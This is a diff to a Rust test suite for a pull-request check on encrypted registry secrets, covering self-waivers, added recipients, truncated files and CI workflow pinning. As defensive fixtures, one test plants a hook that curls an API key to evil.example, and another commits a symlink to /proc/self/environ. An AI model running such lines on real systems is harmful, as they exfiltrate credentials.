@@ -201,15 +201,22 @@ fn a_plain_text_secret_is_rejected_even_inside_base64() {
         "{detail}"
     );
 
-    // A known fixture can be waived by its fingerprint, with a reason.
+    // A known fixture is waived by its fingerprint, with a reason, in the
+    // allowlist of the base (the pull request's own waivers count for nothing).
     let fp = rekey::fingerprint::Fingerprint::of(pr.new.key.as_bytes());
+    git(&pr.repo(), &["checkout", "-q", "main"]);
     write(
         &pr.repo(),
         ".rekey/leak-allowlist.toml",
         format!("[[allow]]\nfingerprint = \"{fp}\"\nreason = \"test fixture\"\n"),
     );
     pr.commit("allow the fixture");
-    pr.check(&[]).code(0);
+    git(&pr.repo(), &["checkout", "-q", "pr"]);
+    git(&pr.repo(), &["rebase", "-q", "main"]);
+    pr.check(&[])
+        .code(0)
+        .stdout_has("waived   deploy/secret.yaml line 3: dockerconfig-password")
+        .stdout_has("(reason: test fixture)");
 }
 
 #[test]
@@ -232,6 +239,19 @@ fn a_file_not_encrypted_to_the_policy_is_rejected() {
     let f = failures(&run);
     assert!(f.contains(&("recipients".into(), format!("{JP}.gpg"))), "{f:?}");
     assert!(f.contains(&("metadata".into(), format!("{JP}.meta.json"))), "{f:?}");
+    // The mismatch names the certificate by user ID and fingerprint, not only its subkey.
+    let detail = entry(&run.json(), "checks", |c| {
+        c["kind"] == "recipients" && c["target"] == format!("{JP}.gpg")
+    })["detail"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let bob = format!(
+        "missing bob <bob@example.com> (fingerprint {}, key ID {})",
+        keys().fingerprint("bob"),
+        keys().subkey_id("bob")
+    );
+    assert!(detail.contains(&bob), "{detail}");
 }
 
 #[test]
@@ -400,4 +420,319 @@ fn the_ci_entry_point_runs_the_check_with_a_key_from_a_file() {
         .unwrap();
     assert_eq!(missing.status.code(), Some(2));
     assert!(String::from_utf8_lossy(&missing.stderr).contains("set REKEY_BASE and REKEY_HEAD"));
+}
+
+/// Commits `files` (path, contents, mode) on the pull-request branch.
+fn commit_files(pr: &Pr, files: &[(&str, &str, u32)], message: &str) {
+    use std::os::unix::fs::PermissionsExt;
+    for (path, contents, mode) in files {
+        let file = write(&pr.repo(), path, contents);
+        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(*mode)).unwrap();
+    }
+    pr.commit(message);
+}
+
+#[test]
+fn a_pr_adding_a_leaked_key_and_a_waiver_for_it_fails() {
+    let pr = Pr::new("check-self-waiver");
+    let fp = rekey::fingerprint::Fingerprint::of(pr.new.key.as_bytes());
+    let dcj = format!(
+        r#"{{"auths":{{"jp.icr.io":{{"username":"iamapikey","password":"{}"}}}}}}"#,
+        pr.new.key
+    );
+    let waiver = format!("[[allow]]\nfingerprint = \"{fp}\"\nreason = \"totally a fixture\"\n");
+    commit_files(
+        &pr,
+        &[
+            ("notes/jp.dockerconfigjson", &dcj, 0o644),
+            (".rekey/leak-allowlist.toml", &waiver, 0o644),
+        ],
+        "leak and waive it",
+    );
+    let run = pr.check(&["--output", "json"]);
+    run.code(1);
+    let v = run.json();
+    let leak = entry(&v, "checks", |c| c["target"] == "notes/jp.dockerconfigjson");
+    assert_eq!(leak["ok"], false);
+    let detail = leak["detail"].as_str().unwrap();
+    assert!(detail.contains(&format!("{fp} (not waived)")), "{detail}");
+    assert!(
+        detail.contains("waives nothing in the pull request that adds it"),
+        "{detail}"
+    );
+    assert_eq!(v["waived"], serde_json::json!([]));
+    let added = &v["policy_changes"]["waivers_added"];
+    assert_eq!(added[0]["fingerprint"], fp.to_string());
+    assert_eq!(added[0]["reason"], "totally a fixture");
+
+    let text = pr.check(&[]);
+    text.code(1)
+        .stdout_has(&format!(
+            "waiver added (waives nothing in this pull request): fingerprint {fp} (reason: totally a fixture)"
+        ))
+        .stdout_has("FAIL  leak       notes/jp.dockerconfigjson");
+    assert!(!text.stdout.contains("waived   "), "{}", text.stdout);
+}
+
+#[test]
+fn a_pr_adding_a_recipient_shows_who_gains_access() {
+    let pr = Pr::new("check-new-recipient");
+    let mut ring = std::fs::read(pr.repo().join(".rekey/recipients.asc")).unwrap();
+    ring.extend(std::fs::read(keys().file("carol.pub")).unwrap());
+    ring.extend(std::fs::read(keys().file("soon.pub")).unwrap());
+    write(&pr.repo(), ".rekey/recipients.asc", ring);
+    pr.commit("quietly add carol and soon");
+    let run = pr.check(&["--output", "json"]);
+    let v = run.json();
+    let added = v["policy_changes"]["recipients_added"].as_array().unwrap().clone();
+    assert_eq!(added.len(), 2, "{v}");
+    let carol = added
+        .iter()
+        .find(|r| r["user_id"] == "carol <carol@example.com>")
+        .unwrap();
+    assert_eq!(carol["fingerprint"], keys().fingerprint("carol"));
+    assert_eq!(carol["expires"], "never");
+    let soon = added
+        .iter()
+        .find(|r| r["user_id"] == "soon <soon@example.com>")
+        .unwrap();
+    assert_eq!(soon["fingerprint"], keys().fingerprint("soon"));
+    assert!(soon["expires"].as_str().unwrap().starts_with("20"), "{soon}");
+    let text = pr.check(&[]);
+    text.stdout_has(&format!(
+        "recipient added (gains access once merged): carol <carol@example.com> (fingerprint {}, expires never)",
+        keys().fingerprint("carol")
+    ));
+    text.stdout_has("ok    policy     .rekey/recipients.asc  the pull request changes the recipient policy");
+
+    // Files re-encrypted to the new set in the same pull request are judged
+    // by the base's policy: carol is named as not in it.
+    rekey()
+        .arg("reencrypt")
+        .arg("--repo")
+        .arg(pr.repo())
+        .arg("--key")
+        .arg(keys().file("alice.sec"))
+        .run()
+        .code(0);
+    pr.commit("re-encrypt to the new set");
+    let run = pr.check(&["--output", "json"]);
+    run.code(1);
+    let detail = entry(&run.json(), "checks", |c| {
+        c["kind"] == "recipients" && c["target"] == format!("{JP}.gpg")
+    })["detail"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    let (_, extra) = detail.split_once(": not in the policy ").expect(&detail);
+    assert!(
+        extra.contains(&format!(
+            "carol <carol@example.com> (fingerprint {}, key ID {})",
+            keys().fingerprint("carol"),
+            keys().subkey_id("carol")
+        )),
+        "{detail}"
+    );
+}
+
+#[test]
+fn a_pr_committing_rekey_state_files_fails() {
+    let pr = Pr::new("check-state-files");
+    commit_files(
+        &pr,
+        &[
+            (
+                ".rekey/writes.json",
+                r#"[[".rekey/hook", ".git/hooks/post-commit"]]"#,
+                0o644,
+            ),
+            (
+                ".rekey/hook",
+                "#!/bin/sh\ncurl -d \"$REKEY_NEW_API_KEY\" evil.example\n",
+                0o644,
+            ),
+            (".rekey/journal.json", "{}", 0o644),
+        ],
+        "plant a hook",
+    );
+    let run = pr.check(&["--output", "json"]);
+    run.code(1);
+    let f = failures(&run);
+    for path in [".rekey/writes.json", ".rekey/hook", ".rekey/journal.json"] {
+        assert!(f.contains(&("layout".into(), path.into())), "{path}: {f:?}");
+    }
+    pr.check(&[])
+        .code(1)
+        .stdout_has("FAIL  layout     .rekey/hook  rekey does not know this file");
+}
+
+#[test]
+fn a_pr_adding_an_executable_or_a_symlink_fails() {
+    let pr = Pr::new("check-modes");
+    commit_files(&pr, &[("tools/hook.sh", "#!/bin/sh\n", 0o755)], "an executable");
+    let run = pr.check(&["--output", "json"]);
+    run.code(1);
+    assert_eq!(failures(&run), [("mode".to_owned(), "tools/hook.sh".to_owned())]);
+
+    git(&pr.repo(), &["reset", "-q", "--hard", "main"]);
+    std::os::unix::fs::symlink("/proc/self/environ", pr.repo().join("registry/JP_X_64.gpg")).unwrap();
+    pr.commit("a symlink");
+    let run = pr.check(&["--output", "json"]);
+    run.code(1);
+    let mode = entry(&run.json(), "checks", |c| c["kind"] == "mode");
+    assert_eq!(mode["target"], "registry/JP_X_64.gpg");
+    assert!(
+        mode["detail"].as_str().unwrap().contains("symbolic link (mode 120000)"),
+        "{mode}"
+    );
+}
+
+#[test]
+fn a_truncated_gpg_fails_the_keyless_check_without_a_panic() {
+    let pr = Pr::new("check-truncated");
+    let path = pr.repo().join(format!("{JP}.gpg"));
+    let bytes = std::fs::read(&path).unwrap();
+    // Cut near the end, as a broken upload or a hostile PR might.
+    std::fs::write(&path, &bytes[..bytes.len() - 41]).unwrap();
+    pr.commit("truncate jp");
+    let run = pr.check(&["--output", "json"]);
+    run.code(1);
+    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
+    let detail = entry(&run.json(), "checks", |c| {
+        c["kind"] == "recipients" && c["target"] == format!("{JP}.gpg")
+    })["detail"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    assert!(
+        detail.contains("not a complete, well-formed OpenPGP message"),
+        "{detail}"
+    );
+    assert!(!detail.contains("addressed to exactly"), "{detail}");
+
+    // With a key it fails the same way: no panic, a complete JUnit report.
+    let run = pr.check_with_key(&["--output", "junit"]);
+    run.code(1);
+    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
+    assert!(run.stdout.contains("</testsuites>"), "{}", run.stdout);
+    assert!(
+        run.stdout.contains("cannot decrypt: not an encrypted OpenPGP message"),
+        "{}",
+        run.stdout
+    );
+}
+
+#[test]
+fn a_pure_reencryption_is_reported_as_such() {
+    let pr = Pr::new("check-reencrypt");
+    // The policy gains carol on main; the pull request only re-encrypts.
+    git(&pr.repo(), &["checkout", "-q", "main"]);
+    let mut ring = std::fs::read(pr.repo().join(".rekey/recipients.asc")).unwrap();
+    ring.extend(std::fs::read(keys().file("carol.pub")).unwrap());
+    write(&pr.repo(), ".rekey/recipients.asc", ring);
+    pr.commit("add carol");
+    git(&pr.repo(), &["checkout", "-q", "-B", "pr", "main"]);
+    rekey()
+        .arg("reencrypt")
+        .arg("--repo")
+        .arg(pr.repo())
+        .arg("--key")
+        .arg(keys().file("alice.sec"))
+        .run()
+        .code(0);
+    pr.commit("re-encrypt");
+    let run = pr.check_with_key(&["--output", "json"]);
+    run.code(0);
+    let jp = entry(&run.json(), "changes", |c| c["region"] == "jp");
+    assert_eq!(jp["change"], "reencrypted");
+    let text = pr.check(&[]);
+    text.code(0)
+        .stdout_has("reencrypted JP_REGISTRY_PULL_SECRET_64 (jp): same key sha256:");
+    assert!(!text.stdout.contains(" -> "), "{}", text.stdout);
+}
+
+/// Runs `ci/rekey-job check` on the pull request with alice's key.
+fn rekey_job_check(pr: &Pr, regions: Option<&Path>) -> std::process::Output {
+    let mut cmd = Command::new(repo_root().join("ci/rekey-job"));
+    cmd.arg("check")
+        .env("REKEY", env!("CARGO_BIN_EXE_rekey"))
+        .env("REKEY_REPO", pr.repo())
+        .env("REKEY_BASE", "main")
+        .env("REKEY_HEAD", "pr")
+        .env("REKEY_DECRYPTION_KEY_FILE", keys().file("alice.sec"))
+        .env_remove("REKEY_REGIONS");
+    if let Some(dir) = regions {
+        cmd.env("REKEY_REGIONS", dir);
+    }
+    cmd.output().unwrap()
+}
+
+#[test]
+fn the_ci_entry_point_reads_the_catalog_at_the_base() {
+    let pr = Pr::new("check-ci-catalog");
+    git(&pr.repo(), &["checkout", "-q", "main"]);
+    copy_dir(&repo_root().join("regions"), &pr.repo().join("regions"));
+    pr.commit("the catalog");
+    git(&pr.repo(), &["checkout", "-q", "-B", "pr", "main"]);
+    // The pull request drops a host from jp and edits the catalog to match.
+    let jp = pr.repo().join("regions/jp.toml");
+    let short = std::fs::read_to_string(&jp)
+        .unwrap()
+        .replace("  \"private.jp.icr.io\",\n", "");
+    std::fs::write(&jp, short).unwrap();
+    pr.seal(
+        &pr.new.key.clone(),
+        &pr.repo().join("regions"),
+        "iks-registry-prod-test-20261123",
+    );
+    pr.commit("rotate without private.jp.icr.io");
+    let out = rekey_job_check(&pr, None);
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "{stdout}\n{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(
+        stdout.contains("region `jp` hosts missing: private.jp.icr.io"),
+        "{stdout}"
+    );
+    assert!(!pr.new.found_in(&out.stdout) && !pr.new.found_in(&out.stderr));
+    // Judged by the pull request's own catalog, the same change would pass.
+    let out = rekey_job_check(&pr, Some(&pr.repo().join("regions")));
+    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stdout));
+}
+
+#[test]
+fn the_shipped_workflows_check_every_pr_with_a_pinned_rekey() {
+    let read = |name: &str| -> serde_yaml_ng::Value {
+        serde_yaml_ng::from_str(&std::fs::read_to_string(repo_root().join("ci/github").join(name)).unwrap()).unwrap()
+    };
+    let check = read("secrets-pr-check.yml");
+    let on = &check["on"]["pull_request"];
+    assert!(on.is_null() || on.get("paths").is_none(), "no path filter: {on:?}");
+    for (name, doc) in [
+        ("secrets-pr-check.yml", &check),
+        ("rotation.yml", &read("rotation.yml")),
+    ] {
+        let steps = doc["jobs"].as_mapping().unwrap().values().next().unwrap()["steps"]
+            .as_sequence()
+            .unwrap()
+            .clone();
+        let runs: Vec<String> = steps
+            .iter()
+            .filter_map(|s| s["run"].as_str().map(str::to_owned))
+            .collect();
+        let install = runs.iter().find(|r| r.contains("cargo install")).unwrap();
+        assert!(
+            install.contains("--rev \"$REKEY_REF\"") && install.contains("--tag \"$REKEY_REF\""),
+            "{name}: {install}"
+        );
+        assert!(!install.contains("--branch"), "{name}: {install}");
+        if name == "secrets-pr-check.yml" {
+            // Nothing from the pull request's tree runs with the decryption key.
+            assert!(runs.iter().all(|r| !r.contains("ci/rekey-job")), "{name}: {runs:?}");
+        }
+    }
 }
